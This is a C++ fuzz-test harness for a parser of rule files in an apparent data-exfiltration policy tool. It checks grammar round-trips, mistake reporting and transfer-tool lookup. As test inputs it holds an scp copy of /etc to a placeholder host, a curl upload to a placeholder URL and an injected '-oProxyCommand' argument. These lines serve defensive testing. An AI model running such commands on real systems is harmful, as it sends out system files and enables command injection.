#include "auexfil/input/rule_file.hpp"

#include <algorithm>
#include <string>
#include <vector>

#include "auexfil/host/automation.hpp"
#include "auexfil/policy/judge.hpp"
#include "auexfil/policy/policy.hpp"
#include "auexfil/transfer/tools.hpp"
#include "fuzz.hpp"

// The text of a rule file: its grammar, and what each room makes of its sections.

using namespace auexfil;  // NOLINT(google-build-using-namespace): a test
using fuzz::expect;

namespace {

std::string written(const input::RuleFile& rules) {
  std::string text;
  for (const input::Section& section : rules.sections) {
    text += "[" + section.kind + " " + section.name + "]\n";
    for (const input::Entry& entry : section.entries) {
      text += entry.key + " = " + entry.value + "\n";
    }
  }
  return text;
}

void check_mistakes(const std::vector<input::Mistake>& mistakes, std::size_t lines) {
  for (const input::Mistake& mistake : mistakes) {
    // A file without sections is not told from none: "policy" then lacks what it needs.
    expect(mistake.file == "fuzz.conf" || mistake.file == "policy", "a mistake names its file");
    expect(mistake.line >= 1 && static_cast<std::size_t>(mistake.line) <= lines,
           "a mistake is in a line of the file");
    expect(!mistake.what.empty(), "a mistake says what it is");
  }
}

void check_grammar(const input::RuleFile& rules, std::size_t lines) {
  check_mistakes(rules.mistakes, lines);
  for (const input::Section& section : rules.sections) {
    int before = section.line;
    for (const input::Entry& entry : section.entries) {
      expect(entry.line > before && static_cast<std::size_t>(entry.line) <= lines,
             "entries stand below each other");
      before = entry.line;
      expect(!entry.key.empty(), "an entry has a key");
    }
  }
  const std::string text = written(rules);
  const input::RuleFile again = input::parse_rule_file(text, "fuzz.conf");
  expect(again.mistakes.empty(), "what was read is written without a mistake");
  expect(written(again) == text, "what was read is read again");
}

void check_tools(const transfer::Tools& tools) {
  const std::vector<std::vector<std::string>> commands = {
      {},
      {"scp", "-r", "/etc", "user@192.0.2.1:/tmp"},
      {"curl", "-T", "f", "--url=http://[2001:db8::1]:8080/x", "-"},
      {"", "--", "a:b", "host::module/x", "-oProxyCommand=x"}};
  for (const auto& argv : commands) {
    for (const transfer::Tool* tool : {tools.find_by_name(argv.empty() ? "" : argv[0], argv),
                                       tools.find_by_shape(argv), tools.find_by_child(argv)}) {
      if (tool != nullptr) {
        expect(tools.find(tool->name) != nullptr, "a tool is found by its name");
        static_cast<void>(transfer::read_argv(*tool, argv));
      }
    }
  }
  static_cast<void>(tools.is_lookup(53, true));
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
  const std::string_view text = fuzz::text_of(data, size);
  const std::size_t lines =
      1 + static_cast<std::size_t>(std::count(text.begin(), text.end(), '\n'));
  const input::RuleFile rules = input::parse_rule_file(text, "fuzz.conf");
  check_grammar(rules, lines);
  const policy::LoadedPolicy loaded = policy::load_policy({rules});
  check_mistakes(loaded.mistakes, lines);
  expect(loaded.mistakes.size() >= rules.mistakes.size(), "mistakes of the grammar are kept");
  const input::RuleFile all = input::overlay({rules});
  std::vector<input::Mistake> mistakes;
  static_cast<void>(host::load_signs(all.sections, mistakes));
  check_tools(transfer::Tools::load(all.sections, mistakes));
  check_mistakes(mistakes, lines);
  if (loaded.mistakes.empty() && !loaded.policy.roles.empty()) {
    policy::Judge judge(loaded.policy);
    expect(judge.finish().findings.empty(), "no transfer, no finding");
  }
  return 0;
}
